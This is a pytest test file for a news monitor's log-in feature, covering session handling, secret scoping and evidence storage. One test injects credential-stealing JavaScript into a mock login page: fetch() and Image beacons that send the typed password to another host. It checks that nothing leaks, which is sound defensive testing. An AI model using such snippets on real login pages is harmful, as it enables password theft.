"""Sources behind a log-in: a members' site on loopback with a form, a token in it, a session, a list and articles."""

import datetime as dt
import secrets
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import pytest

from monitor.bootstrap import App, open_app
from monitor.config.model import NetworkSettings, PagesSettings, Settings
from monitor.db.tables.collection import Source
from monitor.errors import UsageError
from monitor.fetch.log_in import LogInFailed
from monitor.i18n.catalogue import render
from monitor.log_in import LogInStep
from monitor.services.audit import COMMAND_LINE, Actor
from monitor.services.runs import RunReport
from monitor.services.settings import InvalidSettings
from monitor.vocabulary import Role, RunStatus

PASSWORD = "Tromsø & 7 herons"  # noqa: S105
TITLES = ("关于储能项目备案的第1号通知", "电力市场运行情况通报", "能源监管工作要点印发的通知")
EDITOR = Actor("anna", Role.EDITOR)


@dataclass
class MembersSite:
    """Shows list and articles to whoever has a session, and its form to everybody else."""

    site: Any
    reply: Any
    action: str = "/enter"
    redirects_to: str | None = None
    script: str = ""
    tokens: set[str] = field(default_factory=set)
    sessions: list[str] = field(default_factory=list)
    sent: list[dict[str, str]] = field(default_factory=list)

    def open(self) -> None:
        self.site.on("/login", self.show_form)
        self.site.on("/enter", self.enter)
        self.site.on("/news/", lambda asked: self.guard(asked, self.list_page()))
        for n, title in enumerate(TITLES):
            self.site.on(f"/news/detail/{n}.html", lambda asked, title=title: self.guard(asked, article(title)))

    def show_form(self, _asked: Any = None, words: str = "") -> Any:
        token = secrets.token_hex(8)
        self.tokens.add(token)
        return self.reply(
            f"<html><head><title>会员登录</title></head><body><p>{words}</p>"
            f"<form method='post' action='{self.action}'><input type='hidden' name='token' value='{token}'>"
            "<input id='user' name='user'><input id='password' type='password' name='password'>"
            f"<button>登录</button></form>{self.script}</body></html>"
        )

    def enter(self, asked: Any) -> Any:
        sent = {name: values[0] for name, values in parse_qs(asked.body.decode()).items()}
        self.sent.append(sent)
        if self.redirects_to:
            return self.reply(status=307, headers={"location": self.redirects_to})
        if sent.get("token") not in self.tokens or (sent.get("user"), sent.get("password")) != ("anna", PASSWORD):
            return self.show_form(words=f"用户名或密码错误：{sent.get('password')}")
        session = secrets.token_hex(16)
        self.sessions.append(session)
        cookie = {"set-cookie": f"SESSION={session}; Path=/; HttpOnly"}
        return self.reply(status=303, headers={"location": "/news/", **cookie})

    def guard(self, asked: Any, page: str) -> Any:
        found = [session for session in self.sessions if f"SESSION={session}" in asked.headers.get("cookie", "")]
        # A site that is careless enough to write the session into its pages.
        return self.reply(page.replace("</body>", f"<!-- {found[0]} --></body>")) if found else self.show_form()

    def list_page(self) -> str:
        today = dt.datetime.now(dt.UTC).date()
        rows = "".join(
            f"<li><a href='/news/detail/{n}.html'>{title}</a><span>{today - dt.timedelta(days=n)}</span></li>"
            for n, title in enumerate(TITLES)
        )
        return f"<html><head><title>会员通知</title></head><body><ul>{rows}</ul></body></html>"


def article(title: str) -> str:
    text = "各有关单位：为做好本年度工作，现将有关事项通知如下，请认真贯彻执行，并于月底前报送工作总结材料。" * 3
    return f"<html><head><title>{title}</title></head><body><h1>{title}</h1><p>{text}</p></body></html>"


@pytest.fixture
def members(site: Any, reply: Any) -> MembersSite:
    opened = MembersSite(site, reply)
    opened.open()
    return opened


OpenApp = Callable[..., Any]


@pytest.fixture
def settings(tmp_path: Path, sqlite_url: str, site: Any) -> Settings:
    return Settings(
        data_dir=tmp_path,
        database_url=sqlite_url,
        network=NetworkSettings(allowed_private_hosts=["127.0.0.1"]),
        pages=PagesSettings(delay_s=0, timeout_s=5, respect_robots=False),
    )


@pytest.fixture
async def app(settings: Settings) -> AsyncIterator[App]:
    async with open_app(settings) as opened:
        yield opened


def steps(site: Any) -> list[str]:
    return [
        f"open {site.url('/login')}",
        "fill #user with text anna",
        "fill #password with secret MEMBERS_PASSWORD",
        "click form button",
    ]


async def add_source(app: App, site: Any, password: str | None = PASSWORD, **fields: Any) -> Source:
    news = site.url("/news/")
    values = {"name": "会员", "url": news, "sections": [{"name": "通知", "url": news}], "steps": steps(site), **fields}
    source = await app.sources.add(values, by=EDITOR)
    if password is not None:
        await app.settings_service.update({"secrets.MEMBERS_PASSWORD": password}, by=COMMAND_LINE)
    return source


async def sweep(app: App, source: Source) -> RunReport:
    return await app.sweeps.sweep(source, by=COMMAND_LINE)


async def fail(app: App, source: Source) -> str:
    """Sweep a source whose log-in fails; return what its health says."""
    run = await sweep(app, source)
    stored = await app.sources.get(source.name)
    assert (run.status, run.error) == (RunStatus.FAILED, stored.last_error)
    assert run.items == []
    return render(stored.last_error, "en")


def list_traces(folder: Path, *words: str) -> list[str]:
    """Return the files below a folder that hold one of the words; those of evidence are unpacked."""
    import gzip

    found = []
    for path in (path for path in folder.rglob("*") if path.is_file()):
        data = path.read_bytes()
        if path.suffix == ".gz":
            data += gzip.decompress(data)
        found += [path.name for word in words if word.encode() in data]
    return found


async def test_a_list_behind_a_log_in_is_read_and_neither_password_nor_session_is_kept(
    app: App, members: MembersSite, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    source = await add_source(app, members.site)
    run = await sweep(app, source)
    assert (run.status, {item.title for item in run.items}) == (RunStatus.SUCCEEDED, set(TITLES))
    assert len(members.sessions) == 1, "one log-in a run"
    evidence = [record.url for record in await app.store.evidence.list_records(run.run_id)]
    assert members.site.url("/news/") in evidence
    assert members.site.url("/login") not in evidence
    kept = list_traces(tmp_path, "会员通知")
    assert any(name.endswith(".gz") for name in kept), "evidence is searched as it is read"
    assert list_traces(tmp_path, PASSWORD, members.sessions[0], "SESSION=") == []
    assert PASSWORD not in caplog.text
    assert members.sessions[0] not in caplog.text


async def test_the_next_run_and_other_sources_begin_without_the_session(app: App, members: MembersSite) -> None:
    source = await add_source(app, members.site)
    await sweep(app, source)
    page = await app.loaders.for_run().load(members.site.url("/news/"))
    assert page.title == "会员登录", "a run of another source is a stranger"
    asked = len(members.site.asked)
    await sweep(app, source)
    assert len(members.sessions) == 2
    first = members.site.asked[asked]
    assert (first.path, "cookie" in first.headers) == ("/login", False)


async def test_pages_that_are_drawn_have_the_session_too(app: App, members: MembersSite) -> None:
    source = await add_source(app, members.site, render="always")
    run = await sweep(app, source)
    assert {item.title for item in run.items} == set(TITLES)
    assert len(members.sessions) == 1


async def test_a_trial_logs_in_as_well(app: App, members: MembersSite) -> None:
    source = await add_source(app, members.site, sections=[])
    result = await app.sweeps.run_trial(source)
    assert (result.status, result.would_save) == (RunStatus.SUCCEEDED, len(TITLES))
    assert len(members.sessions) == 1
    await app.settings_service.update({"secrets.MEMBERS_PASSWORD": "forgotten"}, by=COMMAND_LINE)
    with pytest.raises(LogInFailed, match="still shows its form"):
        await app.sweeps.run_trial(source)


async def test_a_section_behind_a_log_in_is_taught_after_it(app: App, members: MembersSite) -> None:
    source = await add_source(app, members.site)
    news = members.site.url("/news/")
    look = await app.teaching.look(source.id or 0, news, by=EDITOR)
    assert {row.title for row in look.lists[0].rows} == set(TITLES)
    taught = await app.teaching.teach(source.id or 0, news, look.lists[0].examples, by=EDITOR, save=True)
    assert {row.title for row in taught.rows} == set(TITLES)
    assert len(members.sessions) == 2, "one log-in for each look"
    assert {item.title for item in (await sweep(app, source)).items} == set(TITLES)


async def test_what_is_behind_a_log_in_is_discovered_once_its_secret_is_there(app: App, members: MembersSite) -> None:
    news = members.site.url("/news/")
    added = await app.discovery.add({"name": "会员", "url": news, "steps": steps(members.site)}, by=EDITOR)
    assert added.discovery.problem is not None
    assert added.discovery.problem.code == "log_in.no_secret"
    assert (added.source.sections, len(added.source.steps)) == ([], 4)
    await app.settings_service.update({"secrets.MEMBERS_PASSWORD": PASSWORD}, by=COMMAND_LINE)
    found = await app.discovery.rediscover(added.source.id or 0, by=EDITOR, save=True)
    assert found.discovery.problem is None
    assert [(option.entries, option.is_chosen) for option in found.discovery.options] == [(len(TITLES), True)]
    assert [section["url"] for section in found.source.sections] == [news]
    assert {item.title for item in (await sweep(app, found.source)).items} == set(TITLES)
    as_new = await app.discovery.discover(news, steps=[LogInStep.model_validate(line) for line in steps(members.site)])
    assert as_new.sections == found.discovery.sections


async def test_damaged_evidence_is_fetched_again_after_one_log_in(
    app: App, members: MembersSite, tmp_path: Path
) -> None:
    run = await sweep(app, await add_source(app, members.site))
    records = await app.store.evidence.list_records(run.run_id)
    assert len(records) > len(TITLES)
    for record in records:
        with (tmp_path / str(record.stored_at)).open("r+b") as file:
            file.seek((record.offset or 0) + (record.length or 0) // 2)
            file.write(b"\0" * 20)
    report = await app.scrub.verify(repair_by=COMMAND_LINE)
    assert {finding.url for finding in report.damaged} == {record.url for record in records}
    assert report.ok, "the same bytes came again"
    assert len(members.sessions) == 2
    bodies = [(await app.records.load(record)).body or b"" for record in records]
    assert not any(session.encode() in body for session in members.sessions for body in bodies)


async def test_a_wrong_password_is_told_in_the_words_of_the_site(app: App, members: MembersSite) -> None:
    source = await add_source(app, members.site, password=PASSWORD[::-1])
    assert (await fail(app, source)) == (
        "The log-in did not work: the site still shows its form and says: 用户名或密码错误：***"
    )


async def test_a_missing_field_a_missing_secret_and_a_vain_wait_end_the_run_in_one_sentence(
    app: App, members: MembersSite
) -> None:
    source = await add_source(app, members.site, password=None)
    assert "needs the secret MEMBERS_PASSWORD" in await fail(app, source)
    assert members.sent == []
    await app.settings_service.update({"secrets.MEMBERS_PASSWORD": PASSWORD}, by=COMMAND_LINE)
    for before, after, said in (
        ("#password", "#gone", '"fill #gone with secret MEMBERS_PASSWORD" could not be done within 1 s'),
        ("form button", "#gone", '"click #gone" could not be done within 1 s'),
        (None, "wait for #gone", '"wait for #gone" could not be done within 1 s'),
    ):
        lines = steps(members.site)
        lines = [line.replace(before, after) for line in lines] if before else [*lines, after]
        changed = await app.sources.edit(source.id or 0, {"steps": lines}, by=EDITOR)
        app.settings.pages = app.settings.pages.model_copy(update={"timeout_s": 1.0})
        assert said in await fail(app, changed)


@pytest.fixture
async def stranger(open_site: Any) -> AsyncIterator[Any]:
    async with open_site() as opened:
        opened.on("/take", "<p>thank you</p>")
        yield opened


@pytest.mark.parametrize("way", ["form", "redirect", "script", "image"])
async def test_what_is_typed_reaches_no_other_host(app: App, members: MembersSite, stranger: Any, way: str) -> None:
    take = stranger.url("/take")
    send = {
        "script": f"fetch('{take}', {{method: 'POST', mode: 'no-cors', body: this.password.value}})",
        "image": f"new Image().src = '{take}?' + this.password.value",
    }
    if way == "form":
        members.action = take
    elif way == "redirect":
        members.redirects_to = take
    else:
        members.script = f"<script>document.forms[0].onsubmit = function () {{ {send[way]}; return false }}</script>"
    source = await add_source(app, members.site)
    said = await fail(app, source)
    assert stranger.asked == []
    if way != "image":
        assert stranger.host in said, said
    assert PASSWORD not in said


async def test_a_page_that_leads_elsewhere_before_gets_nothing(app: App, members: MembersSite, stranger: Any) -> None:
    taken = stranger.on("/form", "<input id='user'><input id='password' type='password'><button>Go</button>")
    members.site.on("/login", members.reply(status=302, headers={"location": taken}))
    source = await add_source(app, members.site)
    assert stranger.host in await fail(app, source)
    assert {asked.method for asked in stranger.asked} == {"GET"}
    assert not any(b"herons" in asked.body for asked in stranger.asked)


async def test_a_step_to_another_host_or_of_no_kind_is_refused_when_it_is_written(app: App, site: Any) -> None:
    for line, said in (
        ("open http://elsewhere.example/login", "leads to a host that does not belong to the source"),
        ("press the button", "is not a step"),
        ("fill #frame >> internal:control=enter-frame >> input with secret MEMBERS_PASSWORD", "not a CSS selector"),
        ("fill #p with secret not-a-name", "cannot be the name of a secret"),
    ):
        with pytest.raises(UsageError, match=said):
            await add_source(app, site, steps=[*steps(site), line])
    with pytest.raises(UsageError, match="The first step must open a page"):
        await add_source(app, site, steps=["click a"])


async def test_a_password_is_typed_only_from_a_secret(app: App, members: MembersSite) -> None:
    lines = [line.replace("secret MEMBERS_PASSWORD", "text hunter2hunter2") for line in steps(members.site)]
    source = await add_source(app, members.site, steps=lines, password=None)
    assert 'write "with secret NAME"' in await fail(app, source)
    assert members.sent == []


async def test_a_secret_is_for_the_hosts_of_the_source_that_it_was_entered_for(
    app: App, members: MembersSite, stranger: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = await add_source(app, members.site)
    (shown,) = [secret for secret in await app.settings_service.list_secrets() if secret.name == "MEMBERS_PASSWORD"]
    assert (shown.used_by, shown.is_set, shown.hosts) == ("source.会员", True, [f"http://{members.site.host}"])
    taken = stranger.on("/login", "<input id='user'><input id='password' type='password'><form><button>a</button>")
    other = await add_source(app, stranger, password=None, name="别处")
    assert "MEMBERS_PASSWORD" in await fail(app, other)
    with pytest.raises(InvalidSettings, match="Use a separate variable for each"):
        await app.settings_service.update({"secrets.MEMBERS_PASSWORD": PASSWORD}, by=COMMAND_LINE)
    monkeypatch.setenv("PATH_OF_THE_MACHINE", "not for the desk")
    lines = [line.replace("MEMBERS_PASSWORD", "PATH_OF_THE_MACHINE") for line in steps(members.site)]
    changed = await app.sources.edit(source.id or 0, {"steps": lines}, by=EDITOR)
    assert "PATH_OF_THE_MACHINE" in await fail(app, changed)
    assert taken
    assert not any(b"password" in asked.body for asked in stranger.asked)


async def test_the_file_may_name_a_variable_of_the_environment_for_its_own_source(
    settings: Settings, members: MembersSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MEMBERS_PASSWORD", PASSWORD)
    news = members.site.url("/news/")
    row = {"name": "会员", "url": news, "sections": [{"name": "通知", "url": news}], "steps": steps(members.site)}
    async with open_app(settings.model_copy(update={"sources": [row]})) as app:
        run = await sweep(app, await app.sources.get("会员"))
        assert {item.title for item in run.items} == set(TITLES)
